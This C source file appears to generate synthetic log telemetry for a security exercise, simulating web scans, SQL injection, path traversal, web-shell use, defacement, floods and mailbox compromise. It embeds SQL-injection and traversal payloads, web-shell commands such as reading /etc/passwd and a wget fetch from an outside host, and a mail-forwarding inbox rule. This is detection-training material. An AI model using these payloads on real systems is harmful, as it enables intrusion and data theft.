/* Activities against web sites and mailboxes. Requests are lines of an access log; what the server's processes did is
 * in its audit log, when it keeps one. */
#include "exercise/telemetry_impl.h"

#define BROWSER                                                                                    \
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "        \
        "Chrome/130.0.0.0 Safari/537.36"

static void ask(struct act *a, const char *method, const char *uri, unsigned status,
                const char *agent) {
        struct request q = {.address = act_address(a),
                            .method = method,
                            .uri = uri,
                            .agent = agent,
                            .status = status,
                            .bytes = status == 200 ? 900u + prng_below(&a->rng, 30000)
                                                   : 150u + prng_below(&a->rng, 400)};

        web_line(a, &q);
}

static void as_server(struct act *a, const char *line) {
        struct command c = {.line = line, .cwd = "/var/www/html", .uid = 33, .auid = WHO_SYSTEM};

        audit_exec(a, &c);
}

static void sensor(struct act *a, const char *signature, unsigned severity) {
        struct eve e = {.kind = EVE_ALERT,
                        .src = act_address(a),
                        .dst = a->m->hosts[a->host].address,
                        .dport = 443,
                        .proto = "TCP",
                        .app = "http",
                        .a = signature,
                        .b = "Web Application Attack",
                        .n = severity};

        eve_line(a, &e);
}

void scan_requests(struct act *a, const char *address, const char *agent);
void scan_requests(struct act *a, const char *address, const char *agent) {
        static const char *const paths[] = {
                "/admin/",     "/phpmyadmin/",  "/.git/config",  "/.env",
                "/backup.zip", "/wp-login.php", "/manager/html", "/server-status",
                "/api/v1/",    "/test.php",     "/old/",         "/cgi-bin/test",
                "/config.bak", "/web.config",   "/vendor/",      "/upload/"};
        unsigned n = (unsigned)act_number(a, "count");
        int64_t begin = a->at;

        for (unsigned i = 0; i < n; i++) {
                unsigned page = (unsigned)prng_below(&a->rng, ARRAY_LEN(paths));
                struct request q = {.address = address,
                                    .method = i % 9 ? "GET" : "HEAD",
                                    .agent = agent,
                                    .status = page == 0 ? 403 : 404,
                                    .bytes = 196};

                a->at = act_spread(a, begin, i, n, act_number(a, "over") * MS);
                q.uri = i < ARRAY_LEN(paths) ? paths[i]
                                             : tel_say(a->m, "%s%04x", paths[page],
                                                       (unsigned)prng_below(&a->rng, 65536));
                web_line(a, &q);
        }
}

static void web_scan(struct act *a) {
        scan_requests(a, act_address(a), act_text(a, "agent"));
        sensor(a, "DRILL Web scanner", 2);
}

static void sql_injection(struct act *a) {
        static const char *const tries[] = {
                "?id=1%27%20or%20%271%27=%271",
                "?id=1+union+select+1,2,3--",
                "?id=1%20union%20select%20table_name%20from%20information_schema.tables",
                "?id=1;waitfor%20delay%20%270:0:5%27--",
                "?id=1+and+sleep(5)",
                "?id=-1+union+all+select+null,null"};
        unsigned n = (unsigned)act_number(a, "count");
        int64_t begin = a->at;

        for (unsigned i = 0; i < n; i++) {
                a->at = act_spread(a, begin, i, n, act_number(a, "over") * MS);
                ask(a, "GET",
                    tel_say(a->m, "%s%s", act_text(a, "path"), tries[i % ARRAY_LEN(tries)]),
                    i % 3 ? 200 : 500, BROWSER);
        }
        sensor(a, "DRILL SQL injection in a web request", 1);
}

static void path_traversal(struct act *a) {
        for (unsigned i = 2; i < 6; i++) {
                act_pause(a, 1500);
                ask(a, "GET",
                    tel_say(a->m, "%s?tep=%.*setc/passwd", act_text(a, "path"), (int)(3 * i),
                            "../../../../../../"),
                    i == 5 ? 200 : 400, BROWSER);
        }
}

static void web_login_guess(struct act *a) {
        unsigned n = (unsigned)act_number(a, "count");
        int64_t begin = a->at;

        for (unsigned i = 0; i < n; i++) {
                a->at = act_spread(a, begin, i, n, act_number(a, "over") * MS);
                ask(a, "POST", act_text(a, "path"), 401, BROWSER);
        }
        if (act_number(a, "success")) {
                act_pause(a, 2000);
                ask(a, "POST", act_text(a, "path"), 302, BROWSER);
        }
}

static void web_shell_upload(struct act *a) {
        const char *path = act_text(a, "path");

        ask(a, "POST", "/quan-tri/tai-anh", 200, BROWSER);
        act_pause(a, 700);
        ask(a, "PUT", path, 201, BROWSER);
        act_pause(a, 4000);
        ask(a, "GET", path, 200, BROWSER);
        as_server(a, tel_say(a->m, "chmod 644 /var/www/html%s", path));
}

static void web_shell_command(struct act *a) {
        static const char *const list[][2] = {
                {"whoami", "whoami"},
                {"id;uname%20-a", "id"},
                {"cat%20/etc/passwd", "cat /etc/passwd"},
                {"wget%20http://198.51.100.200/c", "wget http://198.51.100.200/c"},
                {"ls%20-la%20/var/www", "ls -la /var/www"}};
        unsigned n = (unsigned)act_number(a, "count");
        int64_t begin = a->at;
        bool windows = a->m->p->hosts[a->host].os == PLAN_WINDOWS;

        for (unsigned i = 0; i < n; i++) {
                const char *const *c = list[i % ARRAY_LEN(list)];

                a->at = act_spread(a, begin, i, n, act_number(a, "over") * MS);
                ask(a, "GET", tel_say(a->m, "%s?c=%s", act_text(a, "path"), c[0]), 200, BROWSER);
                a->at += 15 * MS;
                if (!windows)
                        as_server(a, tel_say(a->m, "sh -c \"%s\"", c[1]));
                if (!windows)
                        as_server(a, c[1]);
                else
                        proc_end(a,
                                 proc_start(a, proc_standing(a->m, a->host, PROC_W3WP, -1),
                                            SYS32("cmd.exe"),
                                            tel_say(a->m, "\"cmd.exe\" /c whoami"), WHO_NETWORK),
                                 90 * MS);
        }
}

static void web_deface(struct act *a) {
        ask(a, "PUT", "/index.html", 201, BROWSER);
        a->at += 30 * MS;
        as_server(a, tel_say(a->m, "cp /tmp/.trang-moi.html %s", act_text(a, "path")));
        act_pause(a, 3000);
        ask(a, "GET", "/", 200, BROWSER);
}

static void flood(struct act *a) {
        static const char *const agents[] = {
                BROWSER, "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
                "Mozilla/5.0 (Linux; Android 13) AppleWebKit/537.36 Mobile Safari/537.36"};
        unsigned n = (unsigned)act_number(a, "count"), many = (unsigned)act_number(a, "addresses");
        int64_t begin = a->at;

        for (unsigned i = 0; i < n; i++) {
                unsigned k = (unsigned)prng_below(&a->rng, many);
                struct request q = {.address = tel_say(a->m, "%s.%u",
                                                       k % 2 ? "198.51.100" : "203.0.113",
                                                       1 + k % 254),
                                    .method = "GET",
                                    .agent = PICK(&a->rng, agents)};

                a->at = act_spread(a, begin, i, n, act_number(a, "over") * MS);
                q.uri = tel_say(a->m, "%s?_=%u", act_text(a, "path"),
                                (unsigned)prng_below(&a->rng, 1u << 30));
                q.status = i < n / 6 ? 200 : 503;
                q.bytes = q.status == 200 ? 18000 : 190;
                web_line(a, &q);
                if (i % 20 == 0) {
                        struct eve e = {.kind = EVE_FLOW,
                                        .src = q.address,
                                        .dst = a->m->hosts[a->host].address,
                                        .dport = 443,
                                        .proto = "TCP",
                                        .app = "tls",
                                        .to_server = 2100,
                                        .to_client = 6400,
                                        .age_s = 1};
                        eve_line(a, &e);
                }
        }
}

/* ---- mailboxes ---- */

static void mail_failed(struct act *a, const char *name) {
        unix_line(a, SRC_MAIL, "auth", 700 + (unsigned)(a->m->hosts[a->host].key % 90),
                  tel_say(a->m,
                          "pam_unix(dovecot:auth): authentication failure; logname= uid=0 euid=0 "
                          "tty=dovecot ruser=%s rhost=%s  user=%s",
                          name, act_address(a), name));
}

static void mail_password_guess(struct act *a) {
        unsigned n = (unsigned)act_number(a, "count");
        int64_t begin = a->at;

        for (unsigned i = 0; i < n; i++) {
                a->at = act_spread(a, begin, i, n, act_number(a, "over") * MS);
                mail_failed(a, a->who >= 0 ? account_name(a->m, a->who)
                               : a->m->p->n_accounts
                                       ? account_name(a->m, (int)(i % a->m->p->n_accounts))
                                       : made_up_name(a->m, &a->rng));
        }
}

static void mailbox_logon(struct act *a) {
        const char *user = account_name(a->m, a->who);

        for (unsigned i = 0; i < act_number(a, "failures"); i++) {
                mail_failed(a, user);
                m365_line(a, "UserLoginFailed", "AzureActiveDirectory",
                          ",\"ActorIpAddress\":\"-\",\"LogonError\":\"InvalidUserNameOrPassword\"");
                act_pause(a, 6000);
        }
        unix_line(
                a, SRC_MAIL, "dovecot", 690,
                tel_say(a->m,
                        "imap-login: Login: user=<%s>, method=PLAIN, rip=%s, lip=%s, mpid=%u, TLS, "
                        "session=<%08x>",
                        user, act_address(a), a->m->hosts[a->host].address,
                        3000 + (unsigned)prng_below(&a->rng, 20000), (unsigned)prng_next(&a->rng)));
        m365_line(a, "UserLoggedIn", "AzureActiveDirectory",
                  ",\"ActorIpAddress\":\"-\",\"ApplicationId\":\"00000000-0000-0000-0000-"
                  "000000000000\"");
}

static void mailbox_rule(struct act *a) {
        m365_line(
                a, "New-InboxRule", "Exchange",
                tel_say(a->m,
                        ",\"ObjectId\":\"%s\\\\%s\",\"Parameters\":[{\"Name\":\"Name\",\"Value\":"
                        "\"%"
                        "s\"},{\"Name\":\"SubjectOrBodyContainsWords\",\"Value\":\"%s\"},{\"Name\":"
                        "\"ForwardTo\",\"Value\":\"hopthu@%s\"},{\"Name\":\"DeleteMessage\","
                        "\"Value\":"
                        "\"True\"},{\"Name\":\"StopProcessingRules\",\"Value\":\"True\"}]",
                        account_name(a->m, a->who), act_text(a, "rule"), act_text(a, "rule"),
                        act_text(a, "words"),
                        a->out && a->out->domain && *a->out->domain ? a->out->domain
                                                                    : "thu.example"));
}

static void mail_send_burst(struct act *a) {
        unsigned n = (unsigned)act_number(a, "count");
        int64_t begin = a->at;
        const char *domain = *a->m->domain ? a->m->domain : "donvi.example";

        for (unsigned i = 0; i < n; i++) {
                const char *id =
                        tel_say(a->m, "%010llX", (unsigned long long)(prng_next(&a->rng) >> 24));

                a->at = act_spread(a, begin, i, n, act_number(a, "over") * MS);
                unix_line(a, SRC_MAIL, "postfix/smtpd", 5100 + i % 40,
                          tel_say(a->m,
                                  "%s: client=unknown[%s], sasl_method=PLAIN, sasl_username=%s@%s",
                                  id, act_address(a), account_name(a->m, a->who), domain));
                a->at += 25 * MS;
                unix_line(a, SRC_MAIL, "postfix/qmgr", 812,
                          tel_say(a->m, "%s: from=<%s@%s>, size=%u, nrcpt=1 (queue active)", id,
                                  account_name(a->m, a->who), domain,
                                  4000 + (unsigned)prng_below(&a->rng, 900)));
                a->at += 60 * MS;
                unix_line(a, SRC_MAIL, "postfix/smtp", 5300 + i % 40,
                          tel_say(a->m,
                                  "%s: to=<%s@doitac.example>, "
                                  "relay=mx.doitac.example[203.0.113.25]:25, delay=0.6, "
                                  "delays=0.1/0/0.2/0.3, dsn=2.0.0, status=sent (250 2.0.0 Ok)",
                                  id, made_up_name(a->m, &a->rng)));
        }
}

const struct activity_fn activities_web[] = {
        {"web_scan", web_scan},
        {"sql_injection", sql_injection},
        {"path_traversal", path_traversal},
        {"web_login_guess", web_login_guess},
        {"web_shell_upload", web_shell_upload},
        {"web_shell_command", web_shell_command},
        {"web_deface", web_deface},
        {"flood", flood},
        {"mailbox_logon", mailbox_logon},
        {"mailbox_rule", mailbox_rule},
        {"mail_send_burst", mail_send_burst},
        {"mail_password_guess", mail_password_guess},
        {NULL, NULL},
};
